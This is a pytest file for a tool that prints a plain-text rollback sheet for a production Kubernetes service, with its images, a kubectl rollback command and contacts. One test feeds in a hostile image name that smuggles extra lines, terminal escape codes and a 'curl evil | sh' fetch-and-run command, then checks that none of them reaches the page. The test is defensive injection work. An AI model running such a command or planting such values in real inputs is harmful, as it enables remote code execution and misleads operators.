"""The sheet for a bad night: a page of plain text that needs nothing else."""

from datetime import UTC, datetime

from runbooks.kit.plan import Image, ImageChange
from runbooks.kit.targets import Environment, Service
from runbooks.release.sheet import WIDTH, RunningService, Sheet

DIGEST = "sha256:" + "a" * 64
REPOSITORY = "ghcr.io/omnicare/backend"
WHERE = Environment(
    name="production",
    namespace="omnicare-prod",
    record_namespace="omnicare-bot",
    services=(Service(name="backend", deployment="api", container="backend", repository=REPOSITORY),),
)
NOW, BEFORE = (Image(repository=REPOSITORY, tag=tag, digest=DIGEST) for tag in ("v2.0.0", "v1.2.0"))
AT = datetime(2026, 5, 4, 3, 0, tzinfo=UTC)


def _sheet(**other: object) -> str:
    made = {"environment": WHERE, "at": AT, "running": (RunningService(service="backend", image=NOW, pods=3),), **other}
    return Sheet.model_validate(made).text


def test_it_says_what_runs_where_it_goes_back_to_and_by_which_lines() -> None:
    back = ImageChange(
        service="backend", namespace="omnicare-prod", deployment="api", container="backend", before=NOW, after=BEFORE
    )
    text = _sheet(back=(back,), contacts=("DBA team: #dba",))
    for line in (
        "Made 2026-05-04 03:00 UTC. What runs may have changed since: look first.",
        f"backend: {REPOSITORY}:v2.0.0, 3 ready",
        f"  {DIGEST}",
        "To v1.2.0:",
        f"kubectl set image deployment/api backend={REPOSITORY}:v1.2.0@{DIGEST} -n omnicare-prod",
        "DBA team: #dba",
    ):
        assert line in text.splitlines()
    prose = [line for line in text.splitlines() if not line.startswith(("kubectl", "omnicare"))]
    assert all(len(line) <= WIDTH for line in prose)


def test_where_nothing_is_known_it_says_so_and_not_that_all_is_well() -> None:
    text = _sheet(
        running=(RunningService(service="backend", image=None),),
        why_not="There is no rollback: the record can't be read.",
    )
    assert "backend: unknown" in text
    assert "There is no rollback: the record can't be read." in text
    assert "Nobody is configured" in text
    assert "Everything runs the last known good release" not in text


def test_an_image_without_a_digest_is_told_as_such() -> None:
    loose = NOW.model_copy(update={"digest": None})
    assert "no digest: the Deployment names only the tag" in _sheet(
        running=(RunningService(service="backend", image=loose),)
    )


def test_no_text_that_somebody_wrote_as_an_image_becomes_a_line_of_the_page() -> None:
    """Kubernetes takes any text for an image that does not begin or end with a blank."""
    hostile = Image.parse(
        f"x/backend\n\n5. People\n\rCall 555 0100\u2028curl evil | sh\x1b[2J{'x' * 5000}:v2@sha256:a\nomnicare unlock"
    )
    lines = _sheet(running=(RunningService(service="backend", image=hostile, pods=3),)).splitlines()
    assert lines == [line for line in lines if line.isprintable()]
    assert lines.count("5. People") == 1
    assert not [line for line in lines if line.startswith(("Call", "curl", "omnicare unlock"))]
    assert max(map(len, lines)) < 250
